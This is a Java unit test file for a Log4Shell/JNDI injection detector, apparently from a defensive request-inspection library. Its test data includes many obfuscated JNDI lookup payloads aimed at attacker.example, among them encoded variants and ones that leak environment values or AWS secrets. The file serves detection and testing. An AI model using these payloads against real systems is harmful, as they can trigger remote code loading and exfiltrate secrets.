package dev.vigil.shield.detect.jndi;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vigil.shield.detect.Detection;
import dev.vigil.shield.inspect.InspectedValue;
import dev.vigil.shield.inspect.Normalizer;
import dev.vigil.shield.inspect.Source;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class JndiDetectorTest {

    private final JndiDetector detector = new JndiDetector();

    private String rule(String value) {
        List<Detection> out = new ArrayList<>();
        detector.inspect(new InspectedValue("header.x", "x", Source.HEADER, -1, Normalizer.variants(value)), out::add);
        assertThat(out).hasSizeLessThanOrEqualTo(1);
        return out.isEmpty() ? null : out.get(0).ruleId();
    }

    @Test
    void id_and_category() {
        assertThat(detector.id()).isEqualTo("jndi");
        assertThat(detector.category()).isEqualTo("jndi");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "${jndi:ldap://attacker.example/a}",
                "Mozilla/5.0 ${jndi:rmi://attacker.example:1099/obj}",
                "${JNDI:dns://attacker.example}",
                "${jndi:ldaps://attacker.example/x}",
                "${jndi:iiop://attacker.example/x}",
                "${jndi:corba://attacker.example/x}",
                "${jndi:nds://attacker.example/x}",
                "${jndi:nis://attacker.example/x}",
                "${jndi:http://attacker.example/x}",
                "${${lower:J}${lower:N}${lower:D}${lower:I}:ldap://attacker.example/a}",
                "${${upper:j}ndi:ldap://attacker.example/a}",
                "${${::-j}${::-n}${::-d}${::-i}:rmi://attacker.example/a}",
                "${${:-j}ndi:ldap://attacker.example/a}",
                "${${env:NOT_SET:-j}ndi${env:NOT_SET:-:}ldap://attacker.example/a}",
                "${${sys:nope:-j}${abc:def:-n}di:ldap://attacker.example/a}",
                "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://attacker.example/a}",
                "${${lower:jnd}${lower:${upper:ı}}:ldap://attacker.example/a}",
                "${jn${lower:D}i:ldap://attacker.example/a}",
                "j${env:X:-n}${lower:D}i${env:Y:-:}",
                "$${jndi:ldap://attacker.example/a}",
                "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D",
                "$\\u007bjndi:ldap://attacker.example/a}",
                "&#36;&#123;jndi:ldap://attacker.example/a}",
                "$&lbrace;jndi:ldap://attacker.example/a}",
                "$&LCUB;jndi:ldap://attacker.example/a}",
                "${\\u006a\\u006e\\u0064\\u0069:ldap://attacker.example/a}",
                "{\"ua\": \"${jndi:ldap://${env:USER}.attacker.example/a}\"}",
                "${jndi:ldap://attacker.example/a",
                "${base64:JHtqbmRpOmxkYXA6Ly9hdHRhY2tlci5leGFtcGxlL2F9}"
            })
    void jndi_lookups(String value) {
        assertThat(rule(value)).isEqualTo(JndiDetector.JNDI);
    }

    @ParameterizedTest
    @ValueSource(strings = {"${${::-${::-$${::-j}}}}", "${${lower:x}${upper:y}}", "${:-a}${:-b}"})
    void obfuscated_lookups(String value) {
        assertThat(rule(value)).isEqualTo(JndiDetector.OBFUSCATED);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "${env:AWS_SECRET_ACCESS_KEY}",
                "${sys:java.version}",
                "${java:runtime}",
                "${hostName}",
                "${ctx:loginId}",
                "${main:0}"
            })
    void data_lookups(String value) {
        assertThat(rule(value)).isEqualTo(JndiDetector.LEAK);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "${TM_USER_ID}",
                "${BASE64_UID_ENC}",
                "${}()",
                "Total: $42.00 (was ${price})",
                "const msg = `Hello ${user.name}, you owe $${amount}`;",
                "echo \"${HOME}/bin:${PATH}\"",
                "The JNDI API is documented at docs.oracle.com",
                "{\"template\": \"${greeting}, ${name}!\"}",
                "100% of $5",
                "$",
                "${",
                "}${"
            })
    void benign_values(String value) {
        assertThat(rule(value)).isNull();
    }

    @Test
    void evaluator_resolves_nested_defaults_and_case() {
        LookupEvaluator eval = new LookupEvaluator();
        String s = "${${::-j}${lower:ND}${upper:i}:x}";
        String out = eval.evaluate(s, 0, s.length());
        assertThat(out).isEqualTo("${jndI:x}");
        assertThat(eval.jndi).isTrue();
        assertThat(eval.obfuscated).isTrue();
    }

    @Test
    void evaluator_is_bounded_on_deep_nesting() {
        String deep = "${".repeat(20_000) + "x" + "}".repeat(20_000);
        LookupEvaluator eval = new LookupEvaluator();
        long t0 = System.nanoTime();
        eval.evaluate(deep, 0, deep.length());
        assertThat(System.nanoTime() - t0).isLessThan(2_000_000_000L);
    }
}
